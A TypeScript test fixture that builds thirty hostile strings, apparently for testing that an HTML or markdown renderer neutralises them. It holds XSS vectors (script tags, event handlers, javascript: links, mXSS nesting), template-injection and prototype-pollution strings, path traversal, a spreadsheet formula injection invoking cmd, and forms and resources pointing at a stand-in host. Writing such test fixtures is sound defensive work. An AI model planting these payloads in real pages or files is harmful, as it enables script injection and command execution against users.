/** Thirty strings that would run, load or break something wherever they are used as more than text. */

/** Script that marks the page; `from` identifies the string. */
const run = (from: number) => `window.pwned=${from}`
/** A host that does not exist. */
const host = 'https://pwned.invalid'

/** Whatever a string leaves in a page has the attribute data-pwned or a link to `host`. */
const makers: ((n: number) => string)[] = [
  n => `<script data-pwned>${run(n)}</script>`,
  n => `<img data-pwned src=x onerror="${run(n)}">`,
  n => `<svg data-pwned onload="${run(n)}">`,
  n => `[a link](javascript:${run(n)}) ![a picture](javascript:${run(n)})`,
  () => `[a link](data:text/html,<script>window.pwned=1</script>) ![a picture](data:image/svg+xml,<svg/>)`,
  n => `</script><script data-pwned>${run(n)}</script>`,
  n => `</style></title></textarea></pre><b data-pwned onclick="${run(n)}">`,
  n => `--><img data-pwned src=x onerror=${run(n)}><!--`,
  n => `]]><script data-pwned>${run(n)}</script><![CDATA[`,
  n => `&lt;img data-pwned src=x onerror=&quot;${run(n)}&quot;&gt; &#60;b data-pwned&#62;`,
  n => `{{constructor.constructor('${run(n)}')()}} \${${run(n)}} {${run(n)}} <%= ${run(n)} %>`,
  n => `" data-pwned autofocus tabindex=1 onfocus="${run(n)}`,
  n => `' data-pwned onmouseover='${run(n)}' x='`,
  n => `\` data-pwned onpointerenter=\`${run(n)}\` /><b data-pwned>`,
  n => `\u2028${run(n)}//\u2029</script \u0000><scr\u0000ipt data-pwned>${run(n)}</script>`,
  n => `\u202eturned round\u202c \u200b\ufeff\u001b[31mred\u001b]0;title\u0007\u009b31m <b data-pwned>${n}</b>`,
  () => `<base data-pwned href="${host}/"><link data-pwned rel=stylesheet href="${host}/x.css">`,
  n => `<meta data-pwned http-equiv="refresh" content="0;url=data:text/html,<script>${run(n)}</script>">`,
  n => `<iframe data-pwned srcdoc="<script>parent.${run(n)}</script>" src="${host}"></iframe>`,
  () => `<form data-pwned action="${host}"><input name=q><button formaction="${host}">go</button></form>`,
  () =>
    `<object data-pwned data="${host}/x.swf"></object><embed data-pwned src="${host}/x"><link data-pwned rel=import href="${host}">`,
  () =>
    `<p data-pwned style="background:url(//pwned.invalid/x.png);width:expression(alert(1))">x</p> url(//pwned.invalid/y)`,
  n => `<svg data-pwned><foreignObject><body onload="${run(n)}"></foreignObject><use href="${host}/x.svg#a" /></svg>`,
  n =>
    `<math data-pwned><mtext><table><mglyph><style><img src=x onerror="${run(n)}"></style></mglyph></table></mtext></math>`,
  () =>
    `![](${host}/pixel.png) <${host}/auto> ${host}/bare [text](//pwned.invalid/x "t") [r]\n\n[r]: ${host}/reference`,
  () => '::figure{frontier} ::table{kept onclick=x} :exp[1]{href=javascript:x} :fact[headline.gain] :::note{.a #b}',
  n => `"}]</script><script data-pwned>${run(n)}</script>{"__proto__":{"polluted":true},"constructor":1}`,
  () => '../../../../../../../../tmp/pwned/../x\\..\\..\\y%2e%2e%2f?q=#h',
  () => `=HYPERLINK("${host}";"click")\t+1+cmd|' /C calc'!A0;@SUM(1);-1+1`,
  n =>
    `|||\n# A head\n\n> - [ ] <details data-pwned open ontoggle="${run(n)}">\n\n\`\`\`html\n</code></pre><b data-pwned>\n\`\`\`\n`,
]

export const strings = makers.map((make, i) => make(i + 1))
